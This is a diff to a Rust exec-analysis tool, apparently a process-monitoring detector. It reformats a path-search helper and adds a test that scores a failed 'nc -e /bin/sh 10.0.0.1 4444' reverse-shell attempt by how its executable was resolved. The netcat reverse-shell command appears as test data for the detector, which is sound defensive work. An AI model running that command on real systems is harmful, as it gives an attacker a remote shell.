@@ -292,7 +292,10 @@ fn path_search_attempt(facts: &ExecFacts) -> bool {
     let (Some(name), Some(exe)) = (facts.argv.first(), facts.exe_path.as_deref()) else {
         return false;
     };
-    let Some(dir) = exe.strip_suffix(name.as_str()).and_then(|d| d.strip_suffix('/')) else {
+    let Some(dir) = exe
+        .strip_suffix(name.as_str())
+        .and_then(|d| d.strip_suffix('/'))
+    else {
         return false;
     };
     let path = facts.env.iter().find_map(|e| e.strip_prefix("PATH="));
@@ -388,6 +391,17 @@ mod tests {
             assert!(reverse_shell(res).risk >= 80, "res {res}");
         }
         assert!(reverse_shell(0).risk >= 80);
+        // A PATH search's candidate refused with EACCES ran nothing either; the same errno on
+        // a path given explicitly stays visible.
+        let attempt = |exe: &str| {
+            let mut f = ExecFacts::from_argv(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
+            f.exe_path = Some(exe.into());
+            f.env = vec!["PATH=/home/u/.cargo/bin:/usr/bin".into()];
+            f.res = Some(-13);
+            analyze(&f, &Lineage::from_comms(["bash"])).risk
+        };
+        assert_eq!(attempt("/home/u/.cargo/bin/nc"), 0);
+        assert!(attempt("/opt/x/nc") >= 80);
     }
 
     fn with_parent(argv: &[&str], parent: &[&str]) -> Verdict {
